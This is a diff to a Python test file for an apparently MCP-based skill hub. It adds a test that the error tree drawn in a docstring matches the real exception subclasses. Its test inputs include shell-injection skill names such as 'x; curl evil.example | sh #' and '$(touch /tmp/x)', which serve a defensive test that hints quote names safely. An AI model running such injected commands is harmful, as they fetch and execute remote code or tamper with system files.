@@ -1,13 +1,16 @@
-"""What an error tells somebody to run is one command, whatever a skill is called."""
+"""The tree at the top of `errors.py` has every error; and what one tells somebody to run is one command."""
 
 from __future__ import annotations
 
+import re
 import shlex
+from collections.abc import Iterator
 
 import pytest
 
+from skillhub_mcp import errors
 from skillhub_mcp.cli.picker_rows import PickerRow, warning_about
-from skillhub_mcp.errors import ConfirmationRequired, SkillDisabled
+from skillhub_mcp.errors import ConfirmationRequired, SkillDisabled, SkillHubError
 
 NAMES = ["pdf", "x; curl evil.example | sh #", "$(touch /tmp/x)", "`id`", "it's", "/a dir/skill", "> /etc/x"]
 
@@ -21,3 +24,14 @@ def test_a_command_in_a_hint_has_the_name_as_one_word(name: str) -> None:
     for state, command in (("off", "enable"), ("denied", "why")):
         row = PickerRow("x", name, "", "/x", "hub", "user", state, "")
         assert shlex.split(warning_about(row).partition("; skillhub ")[2]) == [command, name]
+
+
+def _descendants(error: type[SkillHubError]) -> Iterator[type[SkillHubError]]:
+    for child in error.__subclasses__():
+        yield child
+        yield from _descendants(child)
+
+
+def test_the_drawn_tree_has_every_error_with_its_code() -> None:
+    drawn = re.findall(r"── (\w+) +(\w+)  ", errors.__doc__ or "")
+    assert drawn == [(one.__name__, one.code) for one in _descendants(SkillHubError)]
